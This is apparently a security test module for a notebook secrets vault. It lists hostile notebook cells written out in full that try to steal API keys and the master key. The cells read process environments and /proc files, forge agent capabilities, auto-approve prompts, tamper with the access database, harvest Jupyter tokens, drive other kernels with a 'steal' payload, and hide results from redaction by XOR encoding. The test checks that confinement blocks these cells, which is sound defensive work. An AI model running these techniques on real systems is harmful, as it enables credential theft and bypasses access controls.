"""The hostile-notebook table: cells that try, on purpose, to get a value or a key.

Each row is one cell run in a page-flow kernel and in a cloud-flow kernel of a notebook
that was never allowed. A hostile notebook does not print what it got (the kernel would
redact a value it knows): it hides it first. So every row hands what it got, and the
text of every error it met (tracebacks' frame locals too), to ``_hostile_emit``, which
prints it XOR-ed and hex-encoded (``SMUGGLE``); the test undoes that (``unsmuggle``)
and scans the result with ``tests/leaks/scanner.py``, as well as every message as sent.
Each row ends by printing ``MARKER`` and its id, so the test knows it ran to its end.

``kernel_code.PRELUDE`` defines the helpers in each kernel (the driver runs it first);
``kernel_code.CONTROL`` is the positive control, run in a cloud-flow kernel of an
allowed notebook: there ``zingyConn.apikey`` must give the values, and the scan must
find them. ``sweep.SWEEP`` is the row that walks every module of ``zingy_nb``.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass

from .kernel_code import AGENT_PID, AGENT_SOCKET, NESTED, PEEK
from .sweep import SWEEP

MARKER = "HOSTILE-ROW-DONE"
SMUGGLE = "HOSTILE-SMUGGLED:"
XOR = 0x5A
_SMUGGLED = re.compile(re.escape(SMUGGLE) + r"([0-9a-f]+)")


def unsmuggle(text: str) -> list[tuple[str, list[str]]]:
    """Every ``(label, forms)`` a row emitted into ``text`` (a cell's joined stdout)."""
    found = []
    for m in _SMUGGLED.finditer(text):
        data = bytes(b ^ XOR for b in bytes.fromhex(m.group(1)))
        obj = json.loads(data.decode("utf-8"))
        found.append((str(obj["label"]), [str(f) for f in obj["forms"]]))
    return found


def without_smuggled(text: str) -> str:
    """``text`` with every smuggled payload cut out (they are scanned decoded)."""
    return _SMUGGLED.sub(SMUGGLE, text)


@dataclass(frozen=True)
class Row:
    """One hostile cell. ``denied`` names emitted labels that must only ever be errors
    (an attach or a read that must be refused, whatever it returned)."""

    id: str
    code: str
    denied: tuple[str, ...] = ()
    widens: bool = False  # the driver undoes what it may have widened, after it
    #: Only confinement stops it: unconfined, it gets what the threat table says
    #: (``test_hostile_unconfined`` shows it does).
    confinement: bool = False
    timeout: float = 120  # seconds the driver waits for the cell
    #: The table custodies it runs in (None: every one); a slow row whose outcome no
    #: custody changes runs in the one the issue names (the key locked).
    custodies: tuple[str, ...] | None = None

    def runs_in(self, custody: str) -> bool:
        return self.custodies is None or custody in self.custodies

    def cell(self) -> str:
        return f"{self.code.strip()}\nprint({MARKER!r}, {self.id!r})\n"


_RETRIEVE_ALL = """
for _n in _HN:
    _hostile_try("apikey " + _n, lambda n=_n: dict(zingyConn.apikey(n).items()))
    _hostile_try("secrets " + _n, lambda n=_n: zingy_nb.get_profiles().secrets(n))
"""

CLI = "zingy-nb"

ROWS: list[Row] = [
    Row(
        "environ",
        """
_hostile_emit("os.environ", dict(_hos.environ))
_hostile_try("/proc/self/environ", lambda: open("/proc/self/environ", "rb").read())
_hostile_try("/proc/self/cmdline", lambda: open("/proc/self/cmdline", "rb").read())
""",
    ),
    Row(
        "zingyconn",
        _RETRIEVE_ALL
        + """
_hostile_try("execute", lambda: dict(zingyConn.execute(_HP, "Retrieve").items()))
_hostile_try("zingyConn._store()", lambda: zingyConn._store())
_hostile_try("%zingy_apikey retrieve", lambda: get_ipython().run_line_magic(
    "zingy_apikey", "retrieve " + _HP))
""",
    ),
    Row(
        "get-profiles",
        """
_p = zingy_nb.get_profiles()
for _n in _HN:
    _hostile_try("secrets " + _n, lambda n=_n: _p.secrets(n))
    _hostile_try("_open " + _n, lambda n=_n: _p._open(n))
    _hostile_try("_unseal " + _n, lambda n=_n: _p._unseal(n))
    _hostile_try("_secrets_as " + _n, lambda n=_n: _p._secrets_as(
        n, "cloud-flow", None, zingy_nb.audit.audit_log, "x"))
_hostile_try("export_key", _p.export_key)
_hostile_try("_redactor_of_all", lambda: list(_p._redactor_of_all()._values))
_hostile_try("_cache", lambda: dict(_p._cache))
_hostile_try("profiles fields", lambda: _p)
""",
    ),
    Row(
        "vault",
        """
_v = zingy_nb.get_profiles().vault
_st = zingy_nb.get_profiles().store
_info = _hostile_try("store.info", _st.info)
for _n in _HN:
    _hostile_try("vault.unseal " + _n, lambda n=_n: _v.unseal(n))
    _hostile_try("vault.open " + _n, lambda n=_n: _v.open(n))
_hostile_try("vault.export_key", lambda: _v.export_key())
_hostile_try("vault.find_key", lambda: _v.find_key(_info))
_hostile_try("vault._locate_key", lambda: _v._locate_key(_info))
_hostile_try("vault._cipher_for_key_id", lambda: _v._cipher_for_key_id(_info.key_id))
_hostile_try("vault.member_key", lambda: _v.member_key())
_hostile_try("vault fields", lambda: _v)
""",
    ),
    Row(
        "custody",
        """
from zingy_nb.vault import custody as _hc
from pathlib import Path as _HPath
_home = _HPath(_HOSTILE["zingy_home"])
_hostile_try("env_key", _hc.env_key)
_hostile_try("ZINGY_NB_MASTER_KEY", lambda: _hos.environ["ZINGY_NB_MASTER_KEY"])
import sqlite3 as _hsql
_sid = _hostile_try("store_id", lambda: _hsql.connect(str(_home / "profiles.db")).execute(
    "SELECT value FROM store_meta WHERE key = 'store_id'").fetchone())
_loc = _hc.KeyLocator(_home)
for _s in [x for x in (_sid or ()) if x] + ["default"]:
    _hostile_try("KeyLocator.load", lambda s=_s: _loc.load(s))
    _hostile_try("KeyLocator.load pending", lambda s=_s: _loc.load(s, pending=True))
    _hostile_try("keyring", lambda s=_s: _hc._Keyring().get("store:" + s))
_hostile_try("key file", lambda: open(_loc.key_file).read())
for _f in _home.rglob("*"):
    if _f.is_file():
        _hostile_try("file " + _f.name, lambda f=_f: f.read_bytes())
_hostile_try("member_key_forms", lambda: zingy_nb.vault.member_key_forms())
""",
    ),
    Row(
        "cipher-on-blob",
        """
from zingy_nb.vault import crypto as _hcr, custody as _hc
import sqlite3 as _hsql
_keys = []
for _get in (lambda: _hos.environ["ZINGY_NB_MASTER_KEY"], lambda: zingy_nb.get_profiles().export_key(),
             lambda: zingy_nb.Profiles().export_key(), lambda: _hc.env_key().key):
    try:
        _k = _get()
        _keys.append(_k if isinstance(_k, bytes) else _hcr.decode_key(_k, where="x"))
    except BaseException as _e:
        _hostile_emit("key raised", _e)
_db = _hsql.connect(_hos.path.join(_HOSTILE["zingy_home"], "profiles.db"))
_blobs = _db.execute("SELECT name, blob FROM profiles").fetchall()
_hostile_emit("keys found", [str(len(_keys))])
for _k in _keys:
    for _name, _blob in _blobs:
        _hostile_try("Cipher.open " + _name, lambda k=_k, n=_name, b=_blob: _hcr.Cipher(k).open(n, b))
""",
    ),
    Row(
        "fresh-profiles",
        """
_hostile_try("Profiles()", zingy_nb.Profiles)
for _n in _HN:
    _hostile_try("Profiles().secrets " + _n, lambda n=_n: zingy_nb.Profiles().secrets(n))
    _hostile_try("Profiles()._unseal " + _n, lambda n=_n: zingy_nb.Profiles()._unseal(n))
    _hostile_try("Profiles()._open " + _n, lambda n=_n: zingy_nb.Profiles()._open(n))
_hostile_try("Profiles().export_key", lambda: zingy_nb.Profiles().export_key())
_hostile_try("Profiles()._redactor_of_all", lambda: list(zingy_nb.Profiles()._redactor_of_all()._values))
""",
    ),
    Row(
        "redactor",
        """
from zingy_nb import redact as _hr
_hostile_try("redactor values", lambda: list(_hr.redactor._values))
""",
    ),
    Row(
        "agent-socket",
        AGENT_SOCKET
        + """
_own = _hos.environ.get("ZINGY_NB_AGENT_CAP")
_forged = "A" * 43
_reqs = [{"op": "status"}, {"op": "list"}]
for _n in _HN:
    _reqs += [{"op": "retrieve", "name": _n}, {"op": "retrieve", "cap": _forged, "name": _n},
              {"op": "retrieve", "cap": None, "name": _n}]
    if _own:
        _reqs.append({"op": "retrieve", "cap": _own, "name": _n})
_reqs.append({"op": "key_status"})
_reqs.append({"op": "spans", "texts": ["x" * 20]})
_hostile_try("requests", lambda: _hostile_agent(*_reqs))
""",
    ),
    Row(
        "agent-register",
        AGENT_SOCKET
        + """
_regs = _hostile_try("register", lambda: _hostile_agent(
    {"op": "register", "flow": "cloud-flow", "notebook": None, "pid": _hos.getpid()},
    {"op": "register", "flow": "cloud-flow", "notebook": None},
    {"op": "register", "flow": "cloud-flow", "notebook": _HOSTILE["allowed"]}))
for _r in _regs or ():
    if _r.get("ok") and _r.get("cap"):
        for _n in _HN:
            _hostile_try("retrieve " + _n, lambda c=_r["cap"], n=_n: _hostile_agent(
                {"op": "retrieve", "cap": c, "name": n}))
""",
    ),
    Row(
        "ptrace-agent",
        PEEK + AGENT_PID + "\n_hostile_peek(_hostile_agent_pid())\n",
        denied=("ptrace attach", "proc environ", "proc mem"),
    ),
    Row(
        "agent-frontend",
        AGENT_SOCKET
        + """
import threading as _hth
def _hostile_frontend():
    s = _hostile_connect()
    f = s.makefile("rb")
    s.sendall(b'{"id": 0, "op": "frontend"}\\n')
    reply = _hjson.loads(f.readline())
    _hostile_emit("frontend", reply)
    if not reply.get("ok"):
        s.close()
        return None
    s.settimeout(None)
    def answer():
        for line in f:
            event = _hjson.loads(line)
            if event.get("event") == "ask":
                _hostile_emit("asked", event)
                s.sendall((_hjson.dumps({"op": "answer", "ask": event["ask"],
                                         "answer": "allow"}) + "\\n").encode())
    _hth.Thread(target=answer, daemon=True).start()
    return s
_fe = _hostile_try("as front end", _hostile_frontend)
"""
        + _RETRIEVE_ALL
        + """
if _fe is not None:
    _fe.close()
""",
        widens=True,
    ),
    Row("sweep", SWEEP),
    Row(
        "cli-key-export",
        f"""
_out = !{CLI} key export
_hostile_emit("key export", list(_out))
_kf = _hos.path.join(_HOSTILE["tmp"], "exported-" + str(_hos.getpid()) + ".key")
_out = !{CLI} key export --output {{_kf}} 2>&1
_hostile_emit("key export --output", list(_out))
_hostile_try("exported file", lambda: open(_kf).read())
""",
    ),
    Row(
        "cli-allow",
        f"""
for _n in _HN:
    _out = !{CLI} profiles allow {{_n}} {{_HOSTILE["notebook"]}} 2>&1
    _hostile_emit("allow " + _n, list(_out))
"""
        + _RETRIEVE_ALL,
        widens=True,
    ),
    Row(
        "cli-notebook-access-off",
        f"""
_out = !{CLI} store config notebook-access off 2>&1
_hostile_emit("notebook-access off", list(_out))
"""
        + _RETRIEVE_ALL,
        widens=True,
    ),
    Row(
        "sqlite-allowance",
        """
import sqlite3 as _hsql, datetime as _hdt
_db = _hsql.connect(_hos.path.join(_HOSTILE["zingy_home"], "profiles.db"))
_when = _hdt.datetime.now(_hdt.timezone.utc).isoformat(timespec="microseconds")
for _n in _HN:
    _hostile_try("insert " + _n, lambda n=_n: _db.execute(
        "INSERT OR IGNORE INTO notebook_access (profile, notebook, how, created) "
        "VALUES (?, ?, 'prompt', ?)", (n, _HOSTILE["notebook"], _when)).rowcount)
_db.commit()
_db.close()
"""
        + _RETRIEVE_ALL,
        widens=True,
    ),
    Row(
        "agent-follow",
        AGENT_SOCKET
        + """
_own = _hos.environ.get("ZINGY_NB_AGENT_CAP")
_move = {"op": "follow", "old": _HOSTILE["allowed"], "new": _HOSTILE["notebook"]}
_hostile_try("follow", lambda: _hostile_agent(_move, {**_move, "cap": _own}))
"""
        + _RETRIEVE_ALL,
        widens=True,
    ),
    Row(
        "store-allow-in-kernel",
        """
_st = zingy_nb.get_profiles().store
for _n in _HN:
    _hostile_try("store.allow " + _n, lambda n=_n: _st.allow(n, _HOSTILE["notebook"], "prompt"))
_hostile_try("store.set_access_setting", lambda: _st.set_access_setting("off"))
"""
        + _RETRIEVE_ALL,
        widens=True,
    ),
    Row(
        "other-kernels",
        """
import glob as _hg
from jupyter_client import BlockingKernelClient as _HKC
from ipykernel import get_connection_file as _hown
_found = []
for _label, _d in (("runtime folder", _HOSTILE["runtime"]), ("temp folder", _HOSTILE["tmp"])):
    _hostile_try(_label, lambda d=_d: sorted(_hos.listdir(d)))
    _found += sorted(_hg.glob(_hos.path.join(_d, "*.json")))
for _f in _found:
    _hostile_try("file " + _hos.path.basename(_f), lambda f=_f: open(f).read())
_steal = ("import json as _sj; from zingy_nb import zingyConn as _sz; "
          "print('STOLEN:' + bytes(b ^ 0x5A for b in _sj.dumps("
          "{n: dict(_sz.apikey(n).items()) for n in %r}).encode()).hex())" % (_HN,))
def _drive(f):
    kc = _HKC(connection_file=f)
    kc.load_connection_file()
    kc.start_channels()
    got = []
    try:
        kc.execute_interactive(_steal, timeout=60, output_hook=lambda m: got.append(
            m["content"].get("text", "")))
    finally:
        kc.stop_channels()
    text = "".join(got)
    if "STOLEN:" in text:
        data = bytes.fromhex(text.split("STOLEN:")[1].split()[0])
        return bytes(b ^ 0x5A for b in data).decode()
    return text
for _f in _found:
    if _hos.path.realpath(_f) != _hos.path.realpath(_hown()):
        _hostile_try("drove " + _hos.path.basename(_f), _drive, _f)
""",
        confinement=True,
    ),
    Row(
        "proc-others",
        """
_me = str(_hos.getpid())
_pids = sorted(p for p in _hos.listdir("/proc") if p.isdigit() and p != _me)
_hostile_emit("processes seen", _pids)
for _p in _pids:
    for _what in ("environ", "cmdline"):
        _hostile_try("proc " + _what, lambda p=_p, w=_what: open(f"/proc/{p}/{w}", "rb").read())
""",
        confinement=True,
    ),
    Row(
        "nested-launch",
        """
from jupyter_client.manager import KernelManager as _HKM
def _nested(spec):
    km = _HKM(kernel_name=spec)
    env = {**_hos.environ, "JPY_SESSION_NAME": _HOSTILE["allowed"]}
    km.start_kernel(env=env)
    kc = km.client()
    kc.start_channels()
    got = []
    try:
        kc.wait_for_ready(timeout=60)
        code = ("import json\\nfrom zingy_nb import zingyConn\\nfor n in %r:\\n"
                "    try:\\n        print(bytes(b ^ 0x5A for b in json.dumps("
                "dict(zingyConn.apikey(n).items())).encode()).hex())\\n"
                "    except Exception as e:\\n        print(type(e).__name__, e)" % (_HN,))
        kc.execute_interactive(code, timeout=60, output_hook=lambda m: got.append(
            m["content"].get("text", "") + m["content"].get("evalue", "")))
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)
    out = []
    for line in "".join(got).split():
        try:
            out.append(bytes(b ^ 0x5A for b in bytes.fromhex(line)).decode())
        except ValueError:
            out.append(line)
    return out
for _spec in ("zingy-cloud-flow", "python3"):
    _hostile_try("launched " + _spec, _nested, _spec)
""",
    ),
    Row(
        "nested-runners",
        NESTED
        + """
_nb = _nested_notebook(_hos.path.join(_ND, "steal.ipynb"), "zingy-cloud-flow")
_nbpy = _nested_notebook(_hos.path.join(_ND, "steal-py.ipynb"), "python3")
_flow = {**_hos.environ, "ZINGY_NB_FLOW": "cloud-flow", "JPY_SESSION_NAME": _HOSTILE["allowed"]}
_fresh = {**_flow, "JUPYTER_RUNTIME_DIR": _ntf.mkdtemp(prefix="nested-runtime-")}
_py = [_hsys.executable, "-m"]
def _out(name):
    return _hos.path.join(_ND, name + ".ipynb")
for _label, _argv, _o, _env in (
    ("papermill", [*_py, "papermill", _nb, _out("pm")], _out("pm"), _flow),
    ("papermill python3", [*_py, "papermill", _nbpy, _out("pm3"), "-k", "python3"],
     _out("pm3"), _flow),
    ("papermill, a fresh agent", [*_py, "papermill", _nb, _out("pmf")], _out("pmf"), _fresh),
    ("nbconvert", [*_py, "jupyter", "nbconvert", "--to", "notebook", "--execute",
                   "--output-dir", _ND, "--output", "nbc", _nb], _out("nbc"), _flow),
    ("zingy-nb run", ["zingy-nb", "run", _nb, "--output", _out("run")], _out("run"), _flow),
):
    _hostile_try(_label, _nested_run, _argv, _o, _env)
_orig = open(_HOSTILE["allowed"], "rb").read()
try:  # the allowed notebook itself, rewritten, run by its own path
    _nested_notebook(_HOSTILE["allowed"], "zingy-cloud-flow")
    _hostile_try("zingy-nb run, the allowed notebook", _nested_run, ["zingy-nb", "run",
                 _HOSTILE["allowed"], "--output", _out("runa")], _out("runa"), _flow)
finally:
    with open(_HOSTILE["allowed"], "wb") as _f:
        _f.write(_orig)
_hostile_try("jupyter server", _nested_server, False)
""",
        timeout=600,
        custodies=("locked",),
    ),
    Row(
        "detached-server",
        NESTED + '\n_hostile_try("detached jupyter server", _nested_server, True)\n',
        confinement=True,
        timeout=300,
    ),
    Row(
        "server-token",
        """
import glob as _hg, urllib.request as _hurl
_tokens = set()
def _hostile_server_files():
    out = []
    for f in _hg.glob(_hos.path.join(_HOSTILE["runtime"], "jpserver-*.json")):
        out.append(_hjson.load(open(f)))
    return out
for _info in _hostile_try("server files", _hostile_server_files) or ():
    _tokens.add(_info.get("token") or "")
for _p in [p for p in _hos.listdir("/proc") if p.isdigit()]:
    try:
        _env = open(f"/proc/{_p}/environ", "rb").read().split(b"\\0")
    except OSError:
        continue
    _tokens.update(e.split(b"=", 1)[1].decode() for e in _env
                   if e.startswith((b"JUPYTER_TOKEN=", b"JPY_API_TOKEN=")))
_tokens.update(v for k, v in _hos.environ.items() if k in ("JUPYTER_TOKEN", "JPY_API_TOKEN"))
_tokens.discard("")
_hostile_emit("tokens found", [str(len(_tokens))])
def _hostile_drive(token):
    req = _hurl.Request(_HOSTILE["server"] + "api/kernels",
                        headers={"Authorization": "token " + token})
    with _hurl.urlopen(req, timeout=30) as r:
        return [str(r.status), r.read().decode()[:2000]]
for _t in sorted(_tokens) or ["no-token-found"]:
    _hostile_try("drove the server", _hostile_drive, _t)
""",
        denied=("drove the server",),
        confinement=True,
    ),
]
